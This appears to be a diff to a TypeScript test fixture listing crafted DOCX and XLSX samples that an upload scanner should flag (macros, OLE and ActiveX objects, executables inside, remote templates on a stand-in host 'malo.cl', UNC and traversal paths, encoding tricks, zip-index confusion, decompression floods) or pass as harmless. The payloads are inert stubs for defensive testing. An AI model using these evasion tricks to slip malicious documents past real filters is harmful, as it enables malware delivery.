@@ -1,164 +1,150 @@
-import { archive, endOf, largeEndOf, type Part, writeParts } from '#tests/support/archives.ts';
+import { archive } from '#tests/support/archives.ts';
+import type { Judged } from '#tests/support/dangerous-files.ts';
 import {
-  clean,
-  dangerousZip,
   docx,
-  type Files,
-  harmlessZip,
-  types,
-} from '#tests/support/dangerous-zip.ts';
+  mainTypes,
+  office,
+  packageOf,
+  rels,
+  xlsx,
+  zip,
+} from '#tests/support/sample-files.ts';
 
-const at = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
-const macroTypes = `<Types xmlns="${types}"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`;
-const binaryTypes = `<Types xmlns="${types}"><Default Extension="BIN" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>`;
-const evil: Part[] = [
-  { name: '[Content_Types].xml', content: macroTypes },
-  { name: 'word/document.xml', content: '<w:document/>' },
-];
-const settings = (content: string | Buffer, name = 'word/_rels/settings.xml.rels') =>
-  docx({ name, content });
-const rels = (inside: string) =>
-  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inside}</Relationships>`;
-/** A template elsewhere, with one more attribute that a reader by pattern takes for the last word. */
-const template = (more = '', target = 'https://malo.cl/a.dotm') =>
-  rels(
-    `<Relationship Id="r" Type="${at}/attachedTemplate" Target="${target}" TargetMode="External" ${more}/>`,
-  );
-const utf32 = (text: string) => {
-  const bytes = Buffer.alloc(text.length * 4);
-  for (const [n, letter] of [...text].entries()) bytes.writeUInt32LE(letter.charCodeAt(0), n * 4);
-  return bytes;
-};
+const at = 'a.docx';
+const relation = (type: string, target: string, mode = 'External') =>
+  `<Relationship Id="rId1" Type="${office}/${type}" Target="${target}" TargetMode="${mode}"/>`;
+const settings = (content: string) => docx({ 'word/_rels/settings.xml.rels': content });
+const template = (target: string) => settings(rels(relation('attachedTemplate', target)));
+const macros = 'application/vnd.ms-word.document.macroEnabled.main+xml';
+const inside = (bytes: Buffer, name = 'word/embeddings/a.docx') =>
+  archive([
+    ...Object.entries(packageOf('word/document.xml', mainTypes.docx)).map(([name, content]) => ({
+      name,
+      content,
+    })),
+    { name, content: bytes },
+  ]);
 
-/** Two archives in one file: `found` is the one whose index programs take that look elsewhere. */
-function twoIndexes(): Files {
-  const [a, b] = [writeParts(clean), writeParts(evil)];
-  const before = a.bytes.length + b.bytes.length;
-  const shifted = writeParts(evil, a.bytes.length).entries;
-  const bodies = Buffer.concat([a.bytes, b.bytes, a.entries]);
-  const index = { count: 2, length: a.entries.length, at: before };
-  const other = { count: 2, length: shifted.length, at: bodies.length };
-  const asDocx = (...pieces: Buffer[]) => ({ bytes: Buffer.concat(pieces), name: 'a.docx' });
-  return {
-    'an index that does not end at the end record': asDocx(bodies, shifted, endOf(index)),
-    'another index in the comment': asDocx(
-      bodies,
-      endOf(index, shifted.length + 24),
-      shifted,
-      endOf({ ...other, at: other.at + 22 }),
-      Buffer.from('xx'),
-    ),
-    'a comment': asDocx(bodies, endOf(index, 2), Buffer.from('xx')),
-    'a record of large archives that names another index': asDocx(
-      bodies,
-      shifted,
-      largeEndOf(other, bodies.length + shifted.length),
-      endOf(index),
-    ),
-    'parts that no index lists': asDocx(
-      b.bytes,
-      ...[writeParts(clean, b.bytes.length)].flatMap(({ bytes, entries, count }) => {
-        const at = b.bytes.length + bytes.length;
-        return [bytes, entries, endOf({ count, length: entries.length, at })];
-      }),
-    ),
-  };
+/** A DOCX with a part that unpacks to so many zeros; `unpacked`: what its index says of it. */
+function large(bytes: number, unpacked = bytes): Buffer {
+  const parts = Object.entries(packageOf('word/document.xml', mainTypes.docx));
+  return archive([
+    ...parts.map(([name, content]) => ({ name, content })),
+    { name: 'word/media/a.xml', content: Buffer.alloc(bytes), deflated: true, unpacked },
+  ]);
 }
 
-export const dangerousOffice: Files = {
-  ...twoIndexes(),
-  ...dangerousZip,
-  ...Object.fromEntries(
-    ['mimetype', 'META-INF/manifest.xml', 'content.xml', 'Basic/Standard/Module1.xml'].map(
-      (name) => [`${name}, of another format`, docx({ name, content: '<a/>' })],
+export const dangerousOffice: Record<string, Judged> = {
+  'a DOCX with macros': [at, docx({ 'word/vbaProject.bin': 'x' }), 'macros'],
+  'a DOCX that is a DOCM': [at, zip(packageOf('word/document.xml', macros)), 'macros'],
+  'a DOCX whose macros have another name': [
+    at,
+    docx({
+      'word/_rels/document.xml.rels': rels(
+        '<Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="datos.dat"/>',
+      ),
+    }),
+    'macros',
+  ],
+  'an XLSX with an Excel 4 macro sheet': [
+    'a.xlsx',
+    xlsx({ 'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>' }),
+    'macros',
+  ],
+  'a DOCX with an OLE object': [at, docx({ 'word/embeddings/oleObject1.bin': 'x' }), 'objects'],
+  'a DOCX with an object in a folder of another name': [
+    at,
+    inside(Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'word/otros/a.bin'),
+    'objects',
+  ],
+  'a DOCX with a program inside': [at, docx({ 'word/x.png': 'MZ\x90\0' }), 'objects'],
+  'a DOCX with an ActiveX control': [at, docx({ 'word/activeX/activeX1.xml': '<a/>' }), 'objects'],
+  'a DOCX with a linked object': [
+    at,
+    settings(rels(relation('oleObject', 'https://malo.cl/a.rtf'))),
+    'objects',
+  ],
+  'a DOCX with macros in a document within': [
+    at,
+    inside(docx({ 'word/vbaProject.bin': 'x' })),
+    'macros',
+  ],
+  'a DOCX with an archive of something else within': [at, inside(zip({ 'a.exe': 'x' })), 'objects'],
+  'a DOCX with documents in documents in documents': [
+    at,
+    inside(inside(inside(docx()))),
+    'objects',
+  ],
+  'a DOCX with a template elsewhere': [at, template('https://malo.cl/a.dotm'), 'template'],
+  'a DOCX with a template on a share': [at, template('file:///\\\\malo.cl\\a.dotm'), 'template'],
+  'a DOCX with a template elsewhere, in other letters': [
+    at,
+    settings(
+      `<ñ:Relationships xmlns:ñ="a"><ñ:Relationship TargetMode = 'External' Id="a>b" Type='${office}/attached&#x54;emplate' Target='http://malo.cl/a'/></ñ:Relationships>`,
     ),
-  ),
-  'an embedded document that does not begin as one': docx({
-    name: 'word/embeddings/a.docx',
-    content: Buffer.concat([Buffer.from('x'), archive(evil)]),
-  }),
-  'a template elsewhere that is called internal': settings(
-    template().replace('External', 'Internal'),
-  ),
-  ...Object.fromEntries(
-    [
-      `xmlns:ñ="TargetMode='Internal'"`,
-      `xmlns:ñ="Type='x/image'"`,
-      `xmlns:ñ="Target='file:///C:/a.dotx'"`,
-      'ñTargetMode="Internal"',
-      `xmlns:a="a" a:TargetMode="Internal"`,
-      'TargetMode="Internal"',
-    ].map((more) => [`a template elsewhere with ${more}`, settings(template(more))]),
-  ),
-  ...Object.fromEntries(
-    [
-      'file:///C:/&#10;x/../..//malo.cl/a.dotm',
-      'file:///C:/.&#9;./.&#9;.//malo.cl/a.dotm',
-      'file:///C:/%255C%255Cmalo.cl/a.dotm',
-      'file:///C:/x/..',
-      'file:////malo.cl/a.dotm',
-    ].map((target) => [`a template at ${target}`, settings(template('', target))]),
-  ),
-  'relations in UTF-32': settings(utf32(template())),
-  'relations in UTF-16 without a mark': settings(Buffer.from(template(), 'utf16le')),
-  'relations that say another encoding': settings(template().replace('UTF-8', 'UTF-7')),
-  'relations with a document type': settings(`<!DOCTYPE a [<!ENTITY b "c">]>${template()}`),
-  'relations without an end': settings(template().slice(0, -3)),
-  'relations whose name ends with a dot': settings(template(), 'word/_rels/settings.xml.rels.'),
-  'relations in pieces': settings(template(), 'word/_rels/settings.xml.rels/[0].last.piece'),
-  'relations by another path': settings(template(), 'word/./_rels/settings.xml%2Erels'),
-  'types by another path': docx({ name: './[Content_Types].xml', content: macroTypes }),
-  'an extension of an active type': {
-    bytes: archive([
-      { name: '[Content_Types].xml', content: binaryTypes },
-      { name: 'xl/workbook.xml', content: '<a/>' },
-      { name: 'xl/a.Bin', content: 'x' },
-    ]),
-    name: 'a.xlsx',
-  },
-  'an object in a folder of another name': docx({
-    name: 'word/otros/a.bin',
-    content: Buffer.from('d0cf11e0a1b11ae1', 'hex'),
-  }),
-  'a program': docx({ name: 'word/x.png', content: 'MZ\x90\0' }),
-  'a text that carries objects': docx({ name: 'word/chunk.txt', content: '{\\rtf1\\object}' }),
-  'a document with macros in a folder of another name': docx({
-    name: 'word/otros/x.dat',
-    content: archive(evil),
-  }),
-  'an archive of something else': docx({
-    name: 'word/embeddings/x.docx',
-    content: archive([{ name: 'a.exe', content: 'x' }]),
-  }),
-  'documents in documents in documents in documents': docx({
-    name: 'word/embeddings/a.docx',
-    content: archive([
-      ...clean,
-      {
-        name: 'word/embeddings/a.docx',
-        content: archive([...clean, { name: 'word/embeddings/a.docx', content: archive(clean) }]),
-      },
-    ]),
-  }),
+    'template',
+  ],
+  'a DOCX with a template that leaves the own disk': [
+    at,
+    template('file:///C:\\..\\..\\\\malo.cl\\a.dotm'),
+    'template',
+  ],
+  'a DOCX with a frame': [
+    at,
+    settings(rels(relation('frame', 'https://malo.cl/a.html'))),
+    'template',
+  ],
+  'a DOCX with relations without an end': [at, settings(rels().slice(0, -3)), 'broken'],
+  'a DOCX without its end': [at, docx().subarray(0, -30), 'broken'],
+  'a DOCX that unpacks to 80 MB': [at, large(80 * 1024 * 1024), 'flood'],
+  'a DOCX that really unpacks to 80 MB and says it does not': [
+    at,
+    large(80 * 1024 * 1024, 1_000),
+    'broken',
+  ],
+  'a DOCX with a list of relations of 17 MB': [
+    at,
+    docx({ 'word/_rels/a.rels': ' '.repeat(17 * 1024 * 1024) }),
+    'flood',
+  ],
+  'a plain zip named DOCX': [at, zip({ 'virus.exe': 'x' }), 'mismatch'],
+  'slides named DOCX': [
+    at,
+    zip(
+      packageOf(
+        'ppt/presentation.xml',
+        'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml',
+      ),
+    ),
+    'mismatch',
+  ],
+  'an XLSX named DOCX': [at, xlsx(), 'mismatch'],
 };
 
-export const harmlessOffice: Files = {
-  ...harmlessZip,
-  'the records of a large archive': { bytes: archive(clean, { large: true }), name: 'a.docx' },
-  'relations in UTF-16': settings(
-    Buffer.from(`\ufeff${rels('').replace('UTF-8', 'UTF-16')}`, 'utf16le'),
-  ),
-  'a template of the own disk': settings(
-    template('', 'file:///C:\\Users\\Ana%20P%C3%A9rez\\AppData\\Roaming\\Normal.dotm'),
-  ),
-  'a workbook within': docx({ name: 'word/embeddings/Hoja1.xlsx', content: archive(clean) }),
-  'types of extensions that it does not use': {
-    bytes: archive([
-      { name: '[Content_Types].xml', content: binaryTypes },
-      { name: 'xl/workbook.xml', content: '<a/>' },
-    ]),
-    name: 'a.xlsx',
-  },
-  'a template on a Mac': settings(template('', 'file:///Users/ana/Library/Carta.dotx')),
-  'an empty folder': docx({ name: 'word/media/', content: '' }),
+export const harmlessOffice: Record<string, Judged> = {
+  'a DOCX with links, a chart and the template of the company': [
+    at,
+    docx({
+      'word/_rels/document.xml.rels': rels(
+        relation('hyperlink', 'https://www.mercadopublico.cl/?a=1&amp;b=2'),
+        relation('attachedTemplate', 'file:///C:\\Users\\ana\\Plantilla.dotx'),
+        relation('package', 'embeddings/Hoja1.xlsx', 'Internal'),
+      ),
+    }),
+    null,
+  ],
+  'a DOCX with a template on a Mac': [at, template('file:///Users/ana/Library/Carta.dotx'), null],
+  'a DOCX with a workbook within': [at, inside(xlsx(), 'word/embeddings/Hoja1.xlsx'), null],
+  'a DOCX with an empty folder': [at, docx({ 'word/media/': '' }), null],
+  'a DOCX that unpacks to 60 MB': [at, large(60 * 1024 * 1024), null],
+  'a DOCX whose lists say nothing': [
+    at,
+    zip({ '[Content_Types].xml': '<Types/>', 'word/document2.xml': '<w:document/>' }),
+    null,
+  ],
+  'an XLSX with settings of a printer': [
+    'a.xlsx',
+    xlsx({ 'xl/printerSettings/printerSettings1.bin': 'x' }),
+    null,
+  ],
 };
